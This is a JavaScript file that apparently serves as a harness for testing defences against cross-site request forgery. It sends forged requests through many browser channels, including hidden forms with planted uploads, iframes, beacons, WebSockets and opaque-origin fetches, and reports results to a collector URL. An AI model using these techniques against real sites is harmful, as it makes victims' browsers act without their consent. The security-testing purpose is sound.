// Runs the list of ATTACKS that the page was given: each one has a browser send a request in another way.
const hidden = (tag, more) => {
  const made = Object.assign(document.createElement(tag), more);
  document.body.append(made);
  return made;
};
const form = ({ url, enctype, fields = {}, method = "POST", target = "_blank" }) => {
  const made = hidden("form", { action: url, method, enctype: enctype || "", target });
  for (const [name, value] of Object.entries(fields)) {
    made.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  }
  if (enctype === "multipart/form-data") {
    const file = Object.assign(document.createElement("input"), { type: "file", name: "file" });
    const held = new DataTransfer();
    held.items.add(new File(["planted"], "f.txt"));
    file.files = held.files;
    made.append(file);
  }
  made.submit();
};
const ways = {
  image: ({ url, policy = "" }) => hidden("img", { referrerPolicy: policy, src: url }),
  link: ({ url }) => hidden("a", { href: url, target: "_blank" }).click(),
  frame: ({ url }) => hidden("iframe", { src: url }),
  script: ({ url }) => hidden("script", { src: url }),
  form,
  socket: ({ url }) => new WebSocket(url.replace("http:", "ws:")),
  beacon: ({ url }) => navigator.sendBeacon(url),
  fetch: ({ url, options }) => fetch(url, options),
  // a frame without an origin: what it sends has `Origin: null`
  opaque: ({ url, options }) =>
    hidden("iframe", {
      sandbox: "allow-scripts",
      srcdoc: `<script>fetch(${JSON.stringify(url)}, ${JSON.stringify(options || {})})</` + "script>",
    }),
};
const told = (what) => {
  new Image().src = COLLECTOR + encodeURIComponent(what);
};
let cookie = "readable";
try {
  document.cookie;
} catch {
  cookie = "closed";
}
told(`began ${self.origin} ${cookie}`);
(async () => {
  for (const attack of ATTACKS) {
    try {
      const answer = await ways[attack.way](attack);
      if (answer instanceof Response) {
        const read = answer.type === "opaque" ? "opaque" : `${answer.status}`;
        told(`${attack.name} read ${read}`);
      }
    } catch (error) {
      told(`${attack.name} threw ${error.name}`);
    }
  }
  told("ended");
})();
